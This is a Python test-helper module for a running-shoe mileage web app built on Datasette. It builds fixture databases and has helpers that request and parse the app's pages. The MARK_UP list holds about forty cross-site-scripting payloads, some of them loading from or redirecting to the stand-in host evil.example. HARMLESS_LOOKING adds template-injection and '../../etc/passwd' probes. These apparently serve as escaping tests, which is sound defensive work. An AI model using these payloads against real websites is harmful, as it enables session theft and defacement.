"""Databases as a sync leaves them, the pages made of them, and what a reader reads there."""

import asyncio
import hashlib
import re
import sqlite3
from collections.abc import Callable, Mapping, Sequence
from contextlib import closing
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from types import MappingProxyType
from typing import Any, Self

from datasette.app import Datasette
from datasette.utils import parse_metadata
from httpx import ASGITransport, AsyncClient
from jinja2 import FileSystemBytecodeCache
from sqlite_utils import Database

from shoemon.pages.places import config_dir, plugins_dir
from shoemon.store.schema import make_views, migrations, write_reasons
from shoemon.web import server as web

WORDS = parse_metadata((config_dir() / "metadata.yaml").read_text(encoding="utf-8"))
TABLES = WORDS["databases"]["shoemon"]["tables"]
QUERIES = WORDS["databases"]["shoemon"]["queries"]
SHOE = {"id": "pegasus", "name": "Nike Pegasus 40", "kind": "daily", "initial_m": 120_000.0, "life_m": 700_000.0}
WEAR = {
    "shoe": "pegasus", "distance_m": 471_000.0, "worn_m": 591_000.0, "life_m": 700_000.0, "fraction": 0.844, "status": "fresh",
    "remaining_m": 109_000.0, "due_early_on": "2025-12-01", "due_on": "2026-01-20", "due_late_on": "2026-03-12", "cost_per_km": 0.25,
}  # fmt: skip
MARK_UP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>", "</a><script>alert(1)</script>", "</svg><script>alert(1)</script>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', '" onmouseover="alert(1)',
    "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "<a href=javascript:alert(1)>x</a>", "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>*{background:url(https://evil.example/)}</style>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>", "<base href=https://evil.example/>", "<object data=x>", "<embed src=x>",
    "<form action=https://evil.example/><input name=x>", "<!-- <script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>", "<script\n>alert(1)</script\n>", "<script/src=//evil.example/x.js>",
    "<<script>alert(1)//<</script>", "<xss id=x tabindex=1 onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script>", "\u2028<script>alert(1)</script>", "\ufeff<img src=x onerror=alert(1)>",
]  # fmt: skip
MENDED = hashlib.sha256((plugins_dir() / "shoemon_look.py").read_bytes()).hexdigest()[:16]
"""Changes with what templates are compiled to, but for their own text."""
NOTICE_LINKS = ("https://www.openstreetmap.org/copyright", "https://opendatacommons.org/licenses/odbl/1-0/")
HARMLESS_LOOKING = [
    "{{ 7*7 }}", "{% raw %}", "&lt;script&gt;", "javascript:alert(1)", "../../etc/passwd", "%3Cscript%3E", "?shoe=x&y=z#a",
]  # fmt: skip


@cache
def empty(units: str) -> bytes:
    """A database without a row, made once."""
    db = Database(memory=True)
    migrations.apply(db)
    make_views(db, units)
    write_reasons(db)
    return bytes(db.conn.serialize())


def build(path: Path, *, units: str = "km", shoes: Sequence[dict[str, Any]] = (SHOE,), wear: Sequence[dict[str, Any]] = (WEAR,),
          legs: Sequence[tuple[str, str | None, str, float]] = (("s:1", "pegasus", "asphalt", 400_000.0), ("s:2", "pegasus", "gravel", 71_000.0)),
          run_name: str = "Morning run", day: str = "2025-11-02", starts: Mapping[str, str] = MappingProxyType({}),
          **more: Sequence[dict[str, Any]]) -> Path:  # fmt: skip
    """A database as a sync leaves it; a leg is (activity, shoe, surface, metres). Activities without a start of their
    own begin in the morning of `day`."""
    at = {activity: starts.get(activity, f"{day}T06:00:00Z") for activity, *_ in legs}
    path.write_bytes(empty(units))
    db = Database(path)
    db.execute("PRAGMA synchronous = off")
    surfaces = {"asphalt": "hard", "gravel": "soft", "tartan": "synthetic"} | {
        kind: kind for kind in ("treadmill", "unknown")
    }
    with db.conn:
        db["_meta"].insert({"key": "units", "value": units})
        db["surfaces"].insert_all({"id": key, "ground": ground, "wear_factor": 1.0} for key, ground in surfaces.items())
        db["sources"].insert(
            {"name": "s", "type": "table", "last_success_at": "2025-11-23T06:15:00Z", "activities": len(legs)}
        )
        db["shoes"].insert_all(shoes)
        db["shoe_wear"].insert_all(wear)
        db["activities"].insert_all(
            {"id": activity, "source": "s", "native_id": activity, "started_at": at[activity], "local_date": at[activity][:10], "sport": "run",
             "name": run_name, "distance_m": metres, "content_hash": "h", "raw": "{}", "counted": 1}
            for activity, metres in {leg[0]: leg[3] for leg in legs}.items())  # fmt: skip
        db["legs"].insert_all(
            {"activity": activity, "shoe": shoe, "surface": surface, "distance_m": metres, "local_date": at[activity][:10],
             "shoe_reason": "gear", "shoe_detail": '{"gear": "Peg"}', "surface_reason": "map_tag", "confidence": 1.0}
            for activity, shoe, surface, metres in legs)  # fmt: skip
        total = "sum(distance_m), count(DISTINCT activity)"
        db.execute(
            f"INSERT INTO shoe_surface_mileage SELECT shoe, surface, {total}, min(local_date), max(local_date) FROM legs GROUP BY 1, 2"
        )
        db.execute(f"INSERT INTO surface_mileage SELECT surface, {total} FROM legs GROUP BY 1")
        db.execute(
            f"INSERT INTO month_mileage SELECT substr(local_date, 1, 7), shoe, surface, {total} FROM legs GROUP BY 1, 2, 3"
        )
        for table, rows in more.items():
            db[table].insert_all(rows)
    db.close()
    return path


def change(path: Path, *statements: str) -> Path:
    """The database after some statements."""
    with closing(sqlite3.connect(path)) as conn, conn:
        for statement in statements:
            conn.execute(statement)
    return path


def add(path: Path, **more: Sequence[dict[str, Any]]) -> None:
    """Write further rows into the tables of a database."""
    db = Database(path)
    for table, rows in more.items():
        db[table].insert_all(rows)
    db.close()


def track(activity: str, status: str = "matched", message: str | None = None) -> dict[str, Any]:
    """A row of what became of a run's track."""
    return {"activity": activity, "status": status, "message": message, "map_date": "2025-10-01",
            "matched_at": "2025-11-03T00:00:00Z", "track_key": "k", "engine": "1", "map_key": "m"}  # fmt: skip


def on_the_map(activity: str, surface: str, metres: float) -> dict[str, Any]:
    """A row of what the map says of a run."""
    origin = "unknown" if surface == "unknown" else "tag"
    return {"activity": activity, "surface": surface, "origin": origin, "distance_m": metres, "confidence": 0.9}


class Pages:
    """A Datasette with the plugins that is asked again and again, in this process; what is written meanwhile is seen."""

    def __init__(self, *databases: Path, app: Callable[..., Any] = web.make_app, **options: Any) -> None:
        self._runner = asyncio.Runner()
        self.run = self._runner.run
        self.datasette = app(*databases, **options)
        self.run(self.datasette.invoke_startup())
        self._app = self.datasette.app()
        # What templates are compiled to is the same for all of these.
        environment = getattr(self.datasette, "jinja_env", None) or self.datasette._jinja_env
        environment.bytecode_cache = FileSystemBytecodeCache(pattern=f"{MENDED}_%s.cache")

    def ask(
        self, method: str, *paths: str, client: str = "127.0.0.1", actor: str | None = None, **more: Any
    ) -> list[Any]:
        """The answers to requests from the machine `client`, as `actor` if somebody has signed in."""

        async def app(scope: Any, receive: Any, send: Any) -> None:
            await self._app({**scope, "shoemon_actor": actor and {"id": actor}}, receive, send)

        async def ask() -> list[Any]:
            transport = ASGITransport(app, client=(client, 50000))
            async with AsyncClient(transport=transport, base_url="http://localhost:8001") as browser:
                return [await browser.request(method, path, **more) for path in paths]

        return self.run(ask())

    def get(self, *paths: str, **headers: str) -> list[Any]:
        """The answers to requests with these headers."""
        return self.ask("GET", *paths, headers=headers)

    def post(self, path: str, subject: str, **form: str) -> Any:
        """The answer to a form with the token about its subject, from this machine."""
        token = self.datasette.shoemon_desks["shoemon"].form_token(subject)
        return self.ask("POST", path, data={"token": token, **form})[0]

    def page(self, path: str = "/", **headers: str) -> str:
        """One page, which must be there."""
        (answer,) = self.get(path, **headers)
        assert answer.status_code == 200, answer.text
        return str(answer.text)

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._runner.close()


def plain_datasette(*databases: Path, **options: Any) -> Any:
    """Datasette as anyone may run it, with the folder of plugins."""
    return Datasette([str(database) for database in databases], plugins_dir=str(plugins_dir()), **options)


def get(database: Path, *paths: str, **options: Any) -> list[Any]:
    """The answers of a Datasette with the plugins, asked in this process."""
    with Pages(database, **options) as pages:
        return pages.get(*paths)


def page(database: Path, path: str = "/", **options: Any) -> str:
    """One page, which must be there."""
    with Pages(database, **options) as pages:
        return pages.page(path)


class Tags(HTMLParser):
    """The elements of a page, and which attributes they have."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def shape(self) -> list[tuple[str, tuple[str, ...]]]:
        return [(tag, tuple(attrs)) for tag, attrs in self.found]


def text_of(html: str) -> str:
    """What a reader reads, with the titles of bars, blanks put together."""
    without = re.sub(r"(?s)<svg[^>]*>(?:<title>(.*?)</title>)?.*?</svg>", r" \1 ", html)
    return " ".join(re.sub(r"<[^>]*>", " ", without).replace("&nbsp;", " ").split())
